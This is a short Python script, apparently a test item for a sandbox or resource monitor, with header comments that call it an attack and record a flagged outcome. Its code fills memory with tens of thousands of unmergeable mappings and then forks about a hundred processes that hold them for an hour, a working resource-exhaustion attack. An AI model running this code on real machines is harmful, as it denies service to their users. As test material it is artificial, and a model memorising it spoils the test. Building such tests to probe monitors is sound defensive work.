# attack: a hundred processes have sixty thousand mappings each, so that looking at them takes long
# outcome: flagged: memory|processes|longer|processor|killed
# stock: no: would harm the machine
import mmap
import os
import time

if os.path.exists("/proc/@GRADER@"):
    raise SystemExit("only in a sandbox")
kept = []
try:
    while True:  # neighbours of different rights are not joined to one mapping
        kept.append(mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | (mmap.PROT_WRITE * (len(kept) % 2))))
except OSError:
    del kept[-100:]
for _ in range(100):
    try:
        if os.fork() == 0:
            break
    except OSError:
        time.sleep(0.1)
time.sleep(3600)
